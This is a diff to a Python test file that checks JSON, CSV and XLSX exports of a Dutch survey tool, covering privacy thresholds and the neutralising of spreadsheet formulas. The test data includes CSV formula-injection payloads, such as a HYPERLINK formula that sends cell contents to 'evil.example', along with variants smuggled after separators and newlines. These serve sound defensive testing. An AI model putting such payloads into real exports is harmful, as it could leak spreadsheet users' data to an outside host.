@@ -1,4 +1,8 @@
-"""Exports: the JSON contract, CSV and XLSX tables with neutralised formulas, the CLI."""
+"""Exports: the JSON backup contract, CSV and XLSX tables with neutralised formulas, the CLI.
+
+The privacy rules of the exports (minimum group size, nothing traceable) and the Dutch Excel
+layout are tested in tests/results/test_exports_privacy.py.
+"""
 
 from __future__ import annotations
 
@@ -19,18 +23,21 @@ from quickscan.services.results import score
 from tests.results.conftest import INJECTIONS
 
 ROUND_KEYS = {"id", "name", "municipality", "status", "banks"}
-DEPARTMENT_KEYS = {"id", "name", "respondents_started", "respondents_submitted", "banks"}
+DEPARTMENT_KEYS = {"id", "name", "respondents_started", "respondents_submitted", "hidden",
+                   "banks"}
 THEME_KEYS = {"id", "score", "target", "gap", "importance", "priority", "answered",
               "dont_know", "not_applicable", "flags"}
 PRIORITY_KEYS = {"rank", "department", "bank", "theme", "score", "target", "gap",
                  "importance", "priority", "action"}
-RESPONSE_KEYS = {"id", "department", "submitted_at", "answers", "importance", "comments"}
+RESPONSE_KEYS = {"id", "department", "started_on", "submitted_on", "answers", "importance",
+                 "comments"}
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
 def check_schema(data: dict) -> None:
-    """Assert the documented quickscan-export/1 shape (extra fields are allowed)."""
-    assert data["schema"] == "quickscan-export/1"
+    """Assert the documented quickscan-export/2 shape (extra fields are allowed)."""
+    assert data["schema"] == "quickscan-export/2"
+    assert data["contains"] == "response-level data"
     assert ROUND_KEYS <= set(data["round"])
     for bank in data["round"]["banks"]:
         assert {"id", "version", "sha256"} <= set(bank) and len(bank["sha256"]) == 64
@@ -59,7 +66,7 @@ def test_json_matches_schema_and_engine(app, built_round) -> None:
     round_ = built_round.round
     data = json.loads(exports.to_json(round_))
     check_schema(data)
-    result = score(round_)
+    result = score(round_, min_group_size=round_.min_group_size)
     assert [d["name"] for d in data["departments"]] == [d.name for d in result.departments]
     for exported, department in zip(data["departments"], result.departments):
         assert exported["respondents_submitted"] == department.respondents_submitted
@@ -76,7 +83,7 @@ def test_json_matches_schema_and_engine(app, built_round) -> None:
     submitted = sum(len(t) for t in built_round.submitted_tokens.values())
     drafts = sum(len(t) for t in built_round.draft_tokens.values())
     assert len(data["responses"]) == submitted
-    assert all(r["submitted_at"] for r in data["responses"])
+    assert all(r["submitted_on"] for r in data["responses"])
     assert len(data["draft_responses"]) == drafts
     texts = {c["text"] for r in data["responses"] for c in r["comments"]}
     assert set(INJECTIONS) <= texts  # JSON carries the raw text; escaping is the reader's job
@@ -88,6 +95,8 @@ def test_json_nulls_where_nothing_is_scored(app) -> None:
     from tests.results.conftest import build_round
 
     built = build_round([("Leeg", ["bestuur"])], respondents=0, drafts=1)
+    built.round.min_group_size = 1  # k = 1: nothing hidden, a department without figures
+    db.session.commit()
     data = json.loads(exports.to_json(built.round))
     theme = data["departments"][0]["banks"][0]["themes"][0]
     assert theme["score"] is None and theme["gap"] is None and theme["priority"] is None
@@ -111,18 +120,21 @@ def number(cell: str) -> float:
 
 def test_csv_tables_agree_with_the_engine_and_neutralise_formulas(app, built_round) -> None:
     round_ = built_round.round
-    result = score(round_)
+    result = score(round_, min_group_size=round_.min_group_size)
+    labels = exports.export_labels()
     rows = read_csv(exports.to_csv(round_, "scores"))
     header = rows[0]
     scored = {(r[0], r[1], r[3]): r for r in rows[1:]}
     for department in result.departments:
         for theme in department.themes():
             row = scored[(department.name, theme.bank_id, theme.theme_id)]
-            value = row[header.index("score")]
-            assert (value == "" and theme.score is None) or number(value) == theme.score
+            value = row[header.index(labels.headers["score"])]
+            # CSV scores have one decimal (as the pages show them); JSON keeps full precision.
+            assert (value == "" and theme.score is None) or number(value) == float(
+                f"{theme.score:.1f}")
     priorities = read_csv(exports.to_csv(round_, "priorities"))
     assert len(priorities) == len(result.priorities) + 1
-    cells = [cell for row in read_csv(exports.to_csv(round_, "answers")) for cell in row]
+    cells = [cell for row in read_csv(exports.to_csv(round_, "comments")) for cell in row]
     for cell in cells:
         assert not cell.startswith(FORMULA_STARTS), cell
     assert "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"klik\")" in cells
@@ -138,9 +150,9 @@ def test_csv_neutralises_formulas_after_every_separator(app) -> None:
 
     tricky = ['zie beleid;=HYPERLINK("http://evil.example","klik")', "a;+1;-2;@x",
               "regel\n=1+1", "regel\r\n@SUM(A1)", "x;\t=1"]
-    built = build_round([("Wonen", ["bestuur"])], respondents=2, drafts=0,
+    built = build_round([("Wonen", ["bestuur"])], respondents=3, drafts=0,
                         comments=tricky, name="Ronde;=1+1")
-    data = exports.to_csv(built.round, "answers")
+    data = exports.to_csv(built.round, "comments")
     cells = [cell for row in read_csv(data) for cell in row]
     assert "zie beleid;'=HYPERLINK(\"http://evil.example\",\"klik\")" in cells
     assert "a;'+1;'-2;'@x" in cells and "regel\n'=1+1" in cells
@@ -155,6 +167,8 @@ def test_csv_numbers_use_a_decimal_comma() -> None:
     assert exports.csv_cell(1e-17) == "0,00000000000000001"
     assert exports.csv_cell(7) == "7" and exports.csv_cell(None) == ""
     assert exports.csv_cell("-2+3") == "'-2+3"
+    assert exports.csv_cell(41.26, 1) == "41,3" and exports.csv_cell(75.0, 1) == "75,0"
+    assert exports.csv_cell(None, 1) == "" and exports.csv_cell(4, 1) == "4"
 
 
 def test_xlsx_has_no_formulas(app, built_round) -> None:
@@ -170,13 +184,13 @@ def test_xlsx_has_no_formulas(app, built_round) -> None:
                     assert not cell.value.startswith(FORMULA_STARTS), cell.value
                     values.append(cell.value)
     assert "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"klik\")" in values
-    result = score(built_round.round)
+    result = score(built_round.round, min_group_size=built_round.round.min_group_size)
     sheet = workbook["prioriteiten"]
     header = [c.value for c in sheet[1]]
     first = [c.value for c in sheet[2]]
     # Spreadsheets keep 15 significant digits.
-    assert first[header.index("priority")] == pytest.approx(result.priorities[0].priority,
-                                                            rel=1e-13)
+    priority = header.index(exports.export_labels().headers["priority"])
+    assert first[priority] == pytest.approx(result.priorities[0].priority, rel=1e-13)
 
 
 def test_export_routes(coordinator_client, built_round) -> None:
